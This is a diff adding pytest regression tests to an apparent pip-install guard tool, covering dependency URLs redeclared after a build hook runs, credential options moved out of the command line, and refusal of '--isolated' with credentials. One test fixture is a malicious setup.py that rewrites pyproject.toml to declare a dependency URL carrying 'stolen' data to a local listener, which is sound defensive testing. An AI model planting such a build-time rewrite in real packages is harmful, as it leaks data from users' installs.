@@ -159,6 +159,39 @@ def test_a_declared_url_swapped_by_the_build_is_refused(tmp_path, fake_home, lin
     assert any(f["rule"] == "direct-reference" and leak in f["message"] for f in pkg["findings"]), pkg
 
 
+REDECLARE = """
+import os, sys
+LEAK = {leak!r} + 'data-the-build-read'
+first = not os.path.exists('.stage')
+from setuptools import setup
+setup(setup_requires=[] if first else ['leak @ ' + LEAK])
+if first and 'dist_info' in sys.argv:  # after its first metadata: declare the leak as data
+    open('.stage', 'w').write('1')
+    text = open('pyproject.toml').read()
+    open('pyproject.toml', 'w').write(text.replace('dependencies = []', 'dependencies = ["leak @ ' + LEAK + '"]'))
+"""
+
+
+@pytest.mark.parametrize("form", ["symlink", "file-url"])
+def test_a_url_declared_after_a_hook_ran_is_refused(tmp_path, fake_home, links, target, loopback_tcp, form):
+    """Second review: pip prepares a tree again when it is named twice (a path and a link to
+    it, or a path and `name @ file:...`); the declaration was read again then — after the first
+    build had rewritten its pyproject.toml to declare a URL carrying data. Read once now."""
+    leak = f"http://127.0.0.1:{loopback_tcp.port}/leak-1.0.tar.gz?stolen="
+    src = tmp_path / "a"
+    (src / "pa").mkdir(parents=True)
+    (src / "pa" / "__init__.py").write_text("")
+    (src / "pyproject.toml").write_text(BACKEND + '[project]\nname = "pa"\nversion = "1.0"\n'
+                                        'dependencies = []\n[tool.setuptools]\npackages = ["pa"]\n')
+    (src / "setup.py").write_text(REDECLARE.format(leak=leak))
+    (tmp_path / "alink").symlink_to(src)
+    args = ["./a", "./alink"] if form == "symlink" else ["./a", f"pa @ {(tmp_path / 'alink').as_uri()}"]
+    before = listing(target)
+    proc, report = pg_install(args, home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert loopback_tcp.received == [], loopback_tcp.received
+    assert proc.returncode != 0 and listing(target) == before, proc.stderr[-2000:]
+
+
 # --------------------------------------------------------------------------- the project's .git
 GIT_ATTACKS = {
     # the quiet one: a new hook, run by the user's next checkout, outside any sandbox
@@ -277,6 +310,28 @@ def test_every_spelling_of_a_credential_option_leaves_the_command_line():
     assert args == ["install", "--pre", "--prefix", "/x", "-f", "/l", "--", "-iz"]
     assert env == {"PIP_INDEX_URL": "https://u:t@h/s", "PIP_EXTRA_INDEX_URL": "https://a:b@x/s",
                    "PIP_FIND_LINKS": "http://e:f@z/", "PIP_PROXY": "http://p:q@px:3128"}
+    # second review: the shortest prefixes pip takes (--in, --ext, --fi in 23.2 and 26.3), and
+    # short options clustered before -i (-qi URL, -qiURL); a plain `--ind B` left on the command
+    # line beat the moved credentialed index
+    args, env = move_credentials(
+        ["install", "--ind", "https://B/s", "-qi", "https://u:t@A/s", "--ext=https://a:b@x/s",
+         "-vfhttp://e:f@z/", "-qr", "req.txt"], {})
+    assert args == ["install", "-q", "-v", "-qr", "req.txt"], args
+    assert env == {"PIP_INDEX_URL": "https://u:t@A/s", "PIP_EXTRA_INDEX_URL": "https://a:b@x/s",
+                   "PIP_FIND_LINKS": "http://e:f@z/"}
+
+
+def test_isolated_with_credentials_is_refused_not_rerouted(tmp_path, fake_home, links, target):
+    """Second review: with --isolated pip ignores the PIP_* variables the credentials move into,
+    so the private index was silently swapped for the default one (dependency confusion).
+    pipguard refuses in its own words, exit 2, before pip starts."""
+    before = listing(target)
+    proc, _ = pg_install(["--isolated", "-i", "http://u:tok3n@127.0.0.1:9/simple", "legit_pure"],
+                         home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert proc.returncode == 2, proc.stderr[-2000:]
+    assert "--isolated" in proc.stderr and "Traceback" not in proc.stderr
+    assert "tok3n" not in proc.stderr
+    assert listing(target) == before
 
 
 def test_extra_index_url_with_credentials_does_not_crash(tmp_path, fake_home, links, target):
